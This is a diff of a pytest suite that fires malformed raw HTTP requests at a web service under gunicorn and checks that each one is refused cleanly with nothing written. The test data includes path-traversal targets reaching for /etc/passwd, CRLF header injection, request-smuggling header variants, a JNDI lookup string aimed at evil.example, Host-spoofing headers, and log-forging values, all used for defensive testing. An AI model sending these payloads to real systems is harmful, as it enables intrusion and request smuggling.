@@ -1,5 +1,5 @@
-"""Requests that no honest client sends, byte for byte, to the service under gunicorn: each is answered for what it is, the
-connection is left in a defined state, and nothing is written."""
+"""Requests that no honest client sends, byte for byte, to the service under gunicorn: each is
+answered for what it is, the connection is left in a defined state, and nothing is written."""
 
 import json
 from collections.abc import Iterator
@@ -9,22 +9,24 @@ import pytest
 
 from service.core.clock import SystemClock
 from tests.journeys.face import ENVELOPE, SAFE_HEADERS
-from tests.journeys.gate import Answer, Gate, opened
-from tests.journeys.live_stack import Town, town_of_its_own, video_body
+from tests.journeys.gate import Answer, FaultInjector, opened
+from tests.journeys.live_stack import LiveStack, town_of_its_own, video_body
 
 MARK = "evil.example"
-NEXT = b"GET /health/live HTTP/1.1\r\nHost: x\r\nX-Request-Id: the-next\r\nConnection: close\r\n\r\n"
+NEXT = (
+    b"GET /health/live HTTP/1.1\r\nHost: x\r\nX-Request-Id: the-next\r\nConnection: close\r\n\r\n"
+)
 
 
 @pytest.fixture(scope="module")
-def town(client: Any) -> Iterator[Town]:
-    with town_of_its_own(client, clock=SystemClock(), callbacks=False) as town:
-        yield town
+def stack(client: Any) -> Iterator[LiveStack]:
+    with town_of_its_own(client, clock=SystemClock(), callbacks=False) as stack:
+        yield stack
 
 
 @pytest.fixture(scope="module")
-def gate(town: Town, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gate]:
-    with opened(town, tmp_path_factory.mktemp("gate")) as gate:
+def gate(stack: LiveStack, tmp_path_factory: pytest.TempPathFactory) -> Iterator[FaultInjector]:
+    with opened(stack, tmp_path_factory.mktemp("gate")) as gate:
         yield gate
         lines = gate.log.read_text().splitlines()
     assert "Traceback" not in "".join(lines)
@@ -32,19 +34,25 @@ def gate(town: Town, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gate]
 
 
 @pytest.fixture(scope="module")
-def token(town: Town) -> str:
-    return town.token("ann", expires_in=10**6)
+def token(stack: LiveStack) -> str:
+    return stack.token("ann", expires_in=10**6)
 
 
 @pytest.fixture(autouse=True)
-def _nothing_written(town: Town) -> Iterator[None]:
+def _nothing_written(stack: LiveStack) -> Iterator[None]:
     yield
-    assert town.items() == []
-    assert town.journal("create") == []
+    assert stack.items() == []
+    assert stack.journal("create") == []
 
 
-def get(target: str = "/health/live", *headers: str, method: str = "GET", version: str = " HTTP/1.1") -> bytes:
-    lines = [f"{method} {target}{version}", *(() if "Host:" in "".join(headers) else ("Host: x",)), *headers]
+def get(
+    target: str = "/health/live", *headers: str, method: str = "GET", version: str = " HTTP/1.1"
+) -> bytes:
+    lines = [
+        f"{method} {target}{version}",
+        *(() if "Host:" in "".join(headers) else ("Host: x",)),
+        *headers,
+    ]
     return "\r\n".join([*lines, "", ""]).encode("latin-1")
 
 
@@ -53,13 +61,13 @@ class Post:
 
     def __init__(self, token: str) -> None:
         self.body = json.dumps(video_body()).encode()
-        self._head = (
-            f"POST /videos HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\n"
-        )
+        self._head = f"POST /videos HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\n"
 
     def __call__(self, *headers: str, body: bytes | None = None) -> bytes:
         more = "".join(f"{header}\r\n" for header in headers)
-        return (self._head + more + "\r\n").encode("latin-1") + (self.body if body is None else body)
+        return (self._head + more + "\r\n").encode("latin-1") + (
+            self.body if body is None else body
+        )
 
     def whole(self, *headers: str) -> bytes:
         return self(f"Content-Length: {len(self.body)}", *headers)
@@ -74,8 +82,9 @@ def post(token: str) -> Post:
     return Post(token)
 
 
-def first_of(gate: Gate, request: bytes) -> Answer:
-    """The answer to the request, with another right behind it that is either answered for itself or not at all."""
+def first_of(gate: FaultInjector, request: bytes) -> Answer:
+    """The answer to the request, with another right behind it that is either answered for itself or
+    not at all."""
     first, *more = [answer for answer in gate.exchange(request + NEXT) if answer.status != 100]
     assert first.status < 500, first
     assert MARK.encode() not in first.body
@@ -85,7 +94,9 @@ def first_of(gate: Gate, request: bytes) -> Answer:
     if first.ends:
         assert more == [], "an answer after the last one"
     else:
-        assert [(answer.status, answer.headers["x-request-id"]) for answer in more] == [(200, "the-next")]
+        assert [(answer.status, answer.headers["x-request-id"]) for answer in more] == [
+            (200, "the-next")
+        ]
     return first
 
 
@@ -107,33 +118,73 @@ def assert_refused(answer: Answer) -> None:
     [
         *(
             (path, 404)
-            for path in ("/", "//", "//evil.example/x", "/../", "/../../etc/passwd", "/.", "/;/", "/%2e%2e/")
+            for path in (
+                "/",
+                "//",
+                "//evil.example/x",
+                "/../",
+                "/../../etc/passwd",
+                "/.",
+                "/;/",
+                "/%2e%2e/",
+            )
         ),
         *(
             (path, 404)
-            for path in ("/%00", "/%0d%0aX-Evil:1", "/jobs%2f..%2fcredits", "/%c0%ae%c0%ae/", "/\\evil.example")
+            for path in (
+                "/%00",
+                "/%0d%0aX-Evil:1",
+                "/jobs%2f..%2fcredits",
+                "/%c0%ae%c0%ae/",
+                "/\\evil.example",
+            )
         ),
         *(
             (path, 404)
-            for path in ("/health//live", "//health/live", "/health/live/..", "/health/./live", "/%", "/%u002e")
+            for path in (
+                "/health//live",
+                "//health/live",
+                "/health/live/..",
+                "/health/./live",
+                "/%",
+                "/%u002e",
+            )
         ),
-        *(("/" + "a" * length, status) for length, status in ((4_000, 404), (10_240, 414), (70_000, 414))),
+        *(
+            ("/" + "a" * length, status)
+            for length, status in ((4_000, 404), (10_240, 414), (70_000, 414))
+        ),
         ("/health/live?" + "a" * 10_240, 414),
-        *(("http://evil.example/health/live", 200), ("http://evil.example", 404), ("ftp://evil.example/x", 404)),
+        *(
+            ("http://evil.example/health/live", 200),
+            ("http://evil.example", 404),
+            ("ftp://evil.example/x", 404),
+        ),
         *(("http://user:pass@evil.example:99999/health/live", 200), ("http://[::1/x", 400)),
         *(
             (target, 400)
-            for target in ("evil.example:443", "health/live", "*", "?x", "/a b", "/caf\xe9", "/a\x00b", "/a\tb")
+            for target in (
+                "evil.example:443",
+                "health/live",
+                "*",
+                "?x",
+                "/a b",
+                "/caf\xe9",
+                "/a\x00b",
+                "/a\tb",
+            )
         ),
         ("", 400),
     ],
     ids=lambda part: str(part)[:30],
 )
-def test_an_address_that_is_none_of_ours_is_refused(gate: Gate, target: str, status: int) -> None:
+def test_an_address_that_is_none_of_ours_is_refused(
+    gate: FaultInjector, target: str, status: int
+) -> None:
     assert first_of(gate, get(target)).status == status
 
 
-def test_the_codes_of_long_addresses_and_headers_are_their_own(gate: Gate) -> None:
+def test_the_codes_of_long_addresses_and_headers_are_their_own(gate: FaultInjector) -> None:
     assert first_of(gate, get("/" + "a" * 10_240)).code == "ADDRESS_TOO_LONG"
     assert first_of(gate, get("/", "X-Long: " + "a" * 65_536)).code == "HEADERS_TOO_LARGE"
 
@@ -144,17 +195,36 @@ def test_the_codes_of_long_addresses_and_headers_are_their_own(gate: Gate) -> No
 @pytest.mark.parametrize(
     ("method", "status"),
     [
-        *(("get", 400), ("Get", 400), ("G", 400), ("", 400), ("GE T", 400), ("G\xc9T", 400), ("GET\x00", 400)),
-        *(("A" * 21, 400), ("BREW", 405), ("TRACE", 405), ("PURGE", 405), ("DELETE", 405), ("CONNECT", 405)),
+        *(
+            ("get", 400),
+            ("Get", 400),
+            ("G", 400),
+            ("", 400),
+            ("GE T", 400),
+            ("G\xc9T", 400),
+            ("GET\x00", 400),
+        ),
+        *(
+            ("A" * 21, 400),
+            ("BREW", 405),
+            ("TRACE", 405),
+            ("PURGE", 405),
+            ("DELETE", 405),
+            ("CONNECT", 405),
+        ),
         ("POST", 405),
     ],
 )
-def test_a_method_that_is_none_of_ours_is_refused(gate: Gate, method: str, status: int) -> None:
+def test_a_method_that_is_none_of_ours_is_refused(
+    gate: FaultInjector, method: str, status: int
+) -> None:
     assert first_of(gate, get(method=method)).status == status
 
 
-@pytest.mark.parametrize("name", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method"])
-def test_no_header_changes_the_method(gate: Gate, name: str) -> None:
+@pytest.mark.parametrize(
+    "name", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method"]
+)
+def test_no_header_changes_the_method(gate: FaultInjector, name: str) -> None:
     assert first_of(gate, get("/health/live", f"{name}: POST")).status == 200
     assert first_of(gate, get("/credits", f"{name}: GET", method="POST")).status == 405
 
@@ -175,7 +245,7 @@ def test_no_header_changes_the_method(gate: Gate, name: str) -> None:
         " HTTP/1.\xb9",
     ],
 )
-def test_another_protocol_is_refused(gate: Gate, version: str) -> None:
+def test_another_protocol_is_refused(gate: FaultInjector, version: str) -> None:
     answer = first_of(gate, get(version=version))
     assert (answer.status, answer.code, answer.ends) == (400, "BAD_REQUEST", True)
 
@@ -191,7 +261,7 @@ def test_another_protocol_is_refused(gate: Gate, version: str) -> None:
         b"GET /\n\n",
     ],
 )
-def test_what_is_no_http_is_refused(gate: Gate, request_bytes: bytes) -> None:
+def test_what_is_no_http_is_refused(gate: FaultInjector, request_bytes: bytes) -> None:
     answer = first_of(gate, request_bytes)
     assert (answer.status, answer.ends) == (400, True)
 
@@ -213,17 +283,32 @@ def test_what_is_no_http_is_refused(gate: Gate, request_bytes: bytes) -> None:
             "Transfer-Encoding: chunked, identity",
             "Transfer-Encoding: chunked;x=1",
         ),
-        *("Transfer-Encoding : chunked", "Transfer-Encoding\t: chunked", " Transfer-Encoding: chunked"),
-        *("Transfer-Encoding: \x0bchunked", "Transfer-Encoding: chunked\x00", 'Transfer-Encoding: "chunked"'),
-        *("X: y\r\n Transfer-Encoding: chunked", "Transfer-Encoding:\r\n chunked", "X: y\nTransfer-Encoding: chunked"),
-        *("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "X: y\rTransfer-Encoding: chunked"),
+        *(
+            "Transfer-Encoding : chunked",
+            "Transfer-Encoding\t: chunked",
+            " Transfer-Encoding: chunked",
+        ),
+        *(
+            "Transfer-Encoding: \x0bchunked",
+            "Transfer-Encoding: chunked\x00",
+            'Transfer-Encoding: "chunked"',
+        ),
+        *(
+            "X: y\r\n Transfer-Encoding: chunked",
+            "Transfer-Encoding:\r\n chunked",
+            "X: y\nTransfer-Encoding: chunked",
+        ),
+        *(
+            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
+            "X: y\rTransfer-Encoding: chunked",
+        ),
         "Transfer-Encoding: chunked\r\nContent-Length: 5",
         "Content-Length: 5\r\nTransfer-Encoding: chunked",
         "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
     ],
 )
 def test_a_transfer_encoding_that_two_servers_could_read_differently_is_refused(
-    gate: Gate, post: Post, header: str
+    gate: FaultInjector, post: Post, header: str
 ) -> None:
     for body in (post.chunked, post.body):
         answer = first_of(gate, post(header, body=body))
@@ -233,17 +318,43 @@ def test_a_transfer_encoding_that_two_servers_could_read_differently_is_refused(
 @pytest.mark.parametrize(
     "length",
     [
-        *("-1", "+5", "5.0", "1e3", "0x10", "5, 5", "5,6", "", " ", "abc", "5 5", "\xb2", "5;", "5\x00", "9" * 5_000),
-        *("5\r\nContent-Length: 5", "5\r\nContent-Length: 6", "5\r\ncontent-length: 7", "0\r\n 5", "1_0"),
+        *(
+            "-1",
+            "+5",
+            "5.0",
+            "1e3",
+            "0x10",
+            "5, 5",
+            "5,6",
+            "",
+            " ",
+            "abc",
+            "5 5",
+            "\xb2",
+            "5;",
+            "5\x00",
+            "9" * 5_000,
+        ),
+        *(
+            "5\r\nContent-Length: 5",
+            "5\r\nContent-Length: 6",
+            "5\r\ncontent-length: 7",
+            "0\r\n 5",
+            "1_0",
+        ),
     ],
 )
-def test_a_length_that_is_none_or_given_twice_is_refused(gate: Gate, post: Post, length: str) -> None:
+def test_a_length_that_is_none_or_given_twice_is_refused(
+    gate: FaultInjector, post: Post, length: str
+) -> None:
     answer = first_of(gate, post(f"Content-Length: {length}"))
     assert (answer.status, answer.code, answer.ends) == (400, "BAD_REQUEST", True)
 
 
 @pytest.mark.parametrize("length", [str(2**31), str(2**63), str(2**64 + 5), "9" * 40])
-def test_a_huge_length_is_too_large_and_not_waited_for(gate: Gate, post: Post, length: str) -> None:
+def test_a_huge_length_is_too_large_and_not_waited_for(
+    gate: FaultInjector, post: Post, length: str
+) -> None:
     answer = first_of(gate, post(f"Content-Length: {length}"))
     assert (answer.status, answer.code, answer.ends) == (413, "PAYLOAD_TOO_LARGE", True)
 
@@ -267,29 +378,43 @@ def test_a_huge_length_is_too_large_and_not_waited_for(gate: Gate, post: Post, l
         b"5_0",
     ],
 )
-def test_a_chunk_with_a_wrong_size_is_refused(gate: Gate, post: Post, size: bytes) -> None:
+def test_a_chunk_with_a_wrong_size_is_refused(gate: FaultInjector, post: Post, size: bytes) -> None:
     body = size + b"\r\n" + post.body + b"\r\n0\r\n\r\n"
     answer = first_of(gate, post("Transfer-Encoding: chunked", body=body))
     assert (answer.status, answer.code, answer.ends) == (400, "BAD_REQUEST", True)
 
 
 @pytest.mark.parametrize(
-    "end", [b"XX0\r\n\r\n", b"0\r\n\r\n", b"\n0\r\n\r\n", b"\r\n0\r\nContent-Length: 5\r\n\r\n", b"\r\n0\r\n x\r\n\r\n"]
+    "end",
+    [
+        b"XX0\r\n\r\n",
+        b"0\r\n\r\n",
+        b"\n0\r\n\r\n",
+        b"\r\n0\r\nContent-Length: 5\r\n\r\n",
+        b"\r\n0\r\n x\r\n\r\n",
+    ],
 )
-def test_a_chunk_with_a_wrong_end_is_refused(gate: Gate, post: Post, end: bytes) -> None:
+def test_a_chunk_with_a_wrong_end_is_refused(gate: FaultInjector, post: Post, end: bytes) -> None:
     body = b"%x\r\n%s%s" % (len(post.body), post.body, end)
     answer = first_of(gate, post("Transfer-Encoding: chunked", body=body))
     assert (answer.status, answer.code, answer.ends) == (400, "BAD_REQUEST", True)
 
 
-def test_a_request_hidden_in_a_body_is_never_answered(gate: Gate, post: Post) -> None:
+def test_a_request_hidden_in_a_body_is_never_answered(gate: FaultInjector, post: Post) -> None:
     hidden = post.whole()
-    for header in (f"Content-Length: {len(hidden)}", f"Content-Length: {len(hidden)}\r\nX-HTTP-Method-Override: GET"):
+    for header in (
+        f"Content-Length: {len(hidden)}",
+        f"Content-Length: {len(hidden)}\r\nX-HTTP-Method-Override: GET",
+    ):
         for target in ("/nowhere", "/credits", "/health/live"):
-            assert first_of(gate, get(target, header, method="GET") + hidden).status in (200, 401, 404)
+            assert first_of(gate, get(target, header, method="GET") + hidden).status in (
+                200,
+                401,
+                404,
+            )
 
 
-def test_a_trailer_is_no_header(gate: Gate, post: Post) -> None:
+def test_a_trailer_is_no_header(gate: FaultInjector, post: Post) -> None:
     chunked = post.chunked.removesuffix(b"\r\n") + b"Idempotency-Key: a\r\n\r\n"
     request = post("Transfer-Encoding: chunked", "Content-Encoding: gzip", body=chunked)
     assert first_of(gate, request).status == 415
@@ -305,15 +430,33 @@ def test_a_trailer_is_no_header(gate: Gate, post: Post) -> None:
             ([f"X-{number}: a" for number in range(count)], status)
             for count, status in ((90, 200), (101, 431), (5_000, 431))
         ),
-        *((["X-Long: " + "a" * length], status) for length, status in ((8_000, 200), (8_200, 431), (65_536, 431))),
+        *(
+            (["X-Long: " + "a" * length], status)
+            for length, status in ((8_000, 200), (8_200, 431), (65_536, 431))
+        ),
         ([f"X-{number}: {'a' * 8_000}" for number in range(9)], 431),
         *(
             ([header], 400)
-            for header in ("X Y: a", "X\x00: a", ": a", "nocolon", "X-A: a\x00b", "X-A: a\rb", "X-\xe9: a", "X(: a")
+            for header in (
+                "X Y: a",
+                "X\x00: a",
+                ": a",
+                "nocolon",
+                "X-A: a\x00b",
+                "X-A: a\rb",
+                "X-\xe9: a",
+                "X(: a",
+            )
         ),
         *(
             ([header], 200)
-            for header in ("X-A: caf\xc3\xa9", "X-A: \xff\xfe", "X-A:", "X-A: ${jndi:ldap://evil.example}", "X_A: b")
+            for header in (
+                "X-A: caf\xc3\xa9",
+                "X-A: \xff\xfe",
+                "X-A:",
+                "X-A: ${jndi:ldap://evil.example}",
+                "X_A: b",
+            )
         ),
         *(
             ([header], 200)
@@ -332,13 +475,37 @@ def test_a_trailer_is_no_header(gate: Gate, post: Post) -> None:
                 "Upgrade: h2c",
             )
         ),
-        *((["Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__", "Connection: Upgrade, HTTP2-Settings"], 200),),
+        *(
+            (
+                [
+                    "Upgrade: h2c",
+                    "HTTP2-Settings: AAMAAABkAAQAAP__",
+                    "Connection: Upgrade, HTTP2-Settings",
+                ],
+                200,
+            ),
+        ),
         *(
             ([f"X-Forwarded-{name}: {text}"], 200)
-            for name, text in (("For", "127.0.0.1"), ("Proto", "https"), ("Host", MARK), ("Prefix", "//evil.example"))
+            for name, text in (
+                ("For", "127.0.0.1"),
+                ("Proto", "https"),
+                ("Host", MARK),
+                ("Prefix", "//evil.example"),
+            )
         ),
-        (["Forwarded: for=127.0.0.1;host=evil.example;proto=https", "X-Real-IP: ::1", "X-Original-URL: /credits"], 200),
-        *(([f"Host: {host}"], 200) for host in (MARK, "evil.example:99999", "127.0.0.1", "[::1]", "")),
+        (
+            [
+                "Forwarded: for=127.0.0.1;host=evil.example;proto=https",
+                "X-Real-IP: ::1",
+                "X-Original-URL: /credits",
+            ],
+            200,
+        ),
+        *(
+            ([f"Host: {host}"], 200)
+            for host in (MARK, "evil.example:99999", "127.0.0.1", "[::1]", "")
+        ),
         (["Host: a", f"Host: {MARK}"], 400),
         (["Host: " + "a" * 300], 400),
         (["Connection: upgrade", "Upgrade: websocket"], 400),
@@ -346,13 +513,20 @@ def test_a_trailer_is_no_header(gate: Gate, post: Post) -> None:
     ],
     ids=lambda part: str(part)[:40],
 )
-def test_headers_are_refused_or_change_nothing(gate: Gate, headers: list[str], status: int) -> None:
+def test_headers_are_refused_or_change_nothing(
+    gate: FaultInjector, headers: list[str], status: int
+) -> None:
     assert first_of(gate, get("/health/live", *headers)).status == status
 
 
 @pytest.mark.parametrize("target", ["/nowhere", "/credits", "/docs", "/openapi.json", "/health/"])
-def test_a_foreign_host_is_told_nowhere(gate: Gate, target: str) -> None:
-    headers = (f"Host: {MARK}", f"X-Forwarded-Host: {MARK}", "X-Forwarded-Proto: https", f"Origin: https://{MARK}")
+def test_a_foreign_host_is_told_nowhere(gate: FaultInjector, target: str) -> None:
+    headers = (
+        f"Host: {MARK}",
+        f"X-Forwarded-Host: {MARK}",
+        "X-Forwarded-Proto: https",
+        f"Origin: https://{MARK}",
+    )
     answer = first_of(gate, get(target, *headers))
     assert "location" not in answer.headers
     assert "access-control-allow-origin" not in answer.headers
@@ -361,7 +535,9 @@ def test_a_foreign_host_is_told_nowhere(gate: Gate, target: str) -> None:
 @pytest.mark.parametrize(
     "name", ["Authorization: Bearer x", "Idempotency-Key: a", "X-Request-Id: b", "X-Google-ID: bob"]
 )
-def test_a_header_that_names_someone_or_something_is_taken_once_only(gate: Gate, post: Post, name: str) -> None:
+def test_a_header_that_names_someone_or_something_is_taken_once_only(
+    gate: FaultInjector, post: Post, name: str
+) -> None:
     answer = first_of(gate, post.whole(name, name))
     assert (answer.status, answer.code, answer.ends) == (400, "BAD_REQUEST", True)
 
@@ -369,24 +545,41 @@ def test_a_header_that_names_someone_or_something_is_taken_once_only(gate: Gate,
 @pytest.mark.parametrize(
     "header",
     [
-        *("Authorization: Bearer \xff\xfe", "Authorization: Bearer a b", "Authorization: bearer", "Authorization:"),
-        *("Authorization: Basic YTpi", "Authorization: Bearer " + "a" * 8_000, "Authorization: Bearer x,Bearer y"),
+        *(
+            "Authorization: Bearer \xff\xfe",
+            "Authorization: Bearer a b",
+            "Authorization: bearer",
+            "Authorization:",
+        ),
+        *(
+            "Authorization: Basic YTpi",
+            "Authorization: Bearer " + "a" * 8_000,
+            "Authorization: Bearer x,Bearer y",
+        ),
     ],
 )
-def test_credentials_that_are_none_are_refused(gate: Gate, header: str) -> None:
+def test_credentials_that_are_none_are_refused(gate: FaultInjector, header: str) -> None:
     assert first_of(gate, get("/credits", header)).status == 401
 
 
-@pytest.mark.parametrize("text", ["a\rINJECTED", "a\nINJECTED", "a\x00INJECTED", "a\x1b[2JINJECTED", "a\x7fINJECTED"])
-@pytest.mark.parametrize("name", ["Idempotency-Key", "X-Request-Id", "User-Agent", "X-Forwarded-For"])
-def test_a_line_of_the_log_cannot_be_forged(gate: Gate, post: Post, name: str, text: str) -> None:
+@pytest.mark.parametrize(
+    "text", ["a\rINJECTED", "a\nINJECTED", "a\x00INJECTED", "a\x1b[2JINJECTED", "a\x7fINJECTED"]
+)
+@pytest.mark.parametrize(
+    "name", ["Idempotency-Key", "X-Request-Id", "User-Agent", "X-Forwarded-For"]
+)
+def test_a_line_of_the_log_cannot_be_forged(
+    gate: FaultInjector, post: Post, name: str, text: str
+) -> None:
     answer = first_of(gate, post.whole(f"{name}: {text}"))
     assert (answer.status, answer.code) == (400, "BAD_REQUEST")
     assert "INJECTED" not in gate.log.read_text()
 
 
-@pytest.mark.parametrize("text", ["a%0aINJECTED", "a\x85INJECTED", "\xe2\x80\xa8INJECTED", '{"level": "INJECTED"}'])
-def test_an_id_that_could_confuse_a_log_is_replaced(gate: Gate, text: str) -> None:
+@pytest.mark.parametrize(
+    "text", ["a%0aINJECTED", "a\x85INJECTED", "\xe2\x80\xa8INJECTED", '{"level": "INJECTED"}']
+)
+def test_an_id_that_could_confuse_a_log_is_replaced(gate: FaultInjector, text: str) -> None:
     answer = first_of(gate, get("/nowhere", f"X-Request-Id: {text}"))
     assert answer.headers["x-request-id"].startswith("req_")
     assert "INJECTED" not in gate.log.read_text()
@@ -395,19 +588,23 @@ def test_an_id_that_could_confuse_a_log_is_replaced(gate: Gate, text: str) -> No
 # Expectations and order.
 
 
-def test_a_body_that_waits_to_be_asked_for_is_asked_for_once(gate: Gate, post: Post) -> None:
+def test_a_body_that_waits_to_be_asked_for_is_asked_for_once(
+    gate: FaultInjector, post: Post
+) -> None:
     head, body = post.whole("Expect: 100-continue", "Content-Encoding: br").split(b"\r\n\r\n", 1)
     statuses = [answer.status for answer in gate.exchange(head + b"\r\n\r\n" + body + NEXT)]
     assert statuses == [100, 415, 200]
 
 
 @pytest.mark.parametrize("expectation", ["100-continued", "the-impossible", "100-continue, x", ""])
-def test_any_other_expectation_is_refused(gate: Gate, post: Post, expectation: str) -> None:
+def test_any_other_expectation_is_refused(
+    gate: FaultInjector, post: Post, expectation: str
+) -> None:
     answer = first_of(gate, post.whole(f"Expect: {expectation}"))
     assert (answer.status, answer.code, answer.ends) == (400, "BAD_REQUEST", True)
 
 
-def test_requests_in_one_piece_are_answered_in_their_order(gate: Gate) -> None:
+def test_requests_in_one_piece_are_answered_in_their_order(gate: FaultInjector) -> None:
     ids = [f"id-{number}" for number in range(50)]
     targets = ("/health/live", "/nowhere", "/credits")
     sent = [get(targets[number % 3], f"X-Request-Id: {name}") for number, name in enumerate(ids)]
@@ -417,11 +614,13 @@ def test_requests_in_one_piece_are_answered_in_their_order(gate: Gate) -> None:
     ]
 
 
-def test_requests_in_one_piece_behind_a_refused_body_are_never_misread(gate: Gate, post: Post) -> None:
+def test_requests_in_one_piece_behind_a_refused_body_are_never_misread(
+    gate: FaultInjector, post: Post
+) -> None:
     for number in (1, 2, 7):
         came = gate.exchange(post.whole("Content-Encoding: br") * number + NEXT)
         assert [answer.status for answer in came] == [415] * number + [200]
 
 
-def test_the_probe_stays_well_through_all_this(gate: Gate) -> None:
+def test_the_probe_stays_well_through_all_this(gate: FaultInjector) -> None:
     assert first_of(gate, get()).status == 200
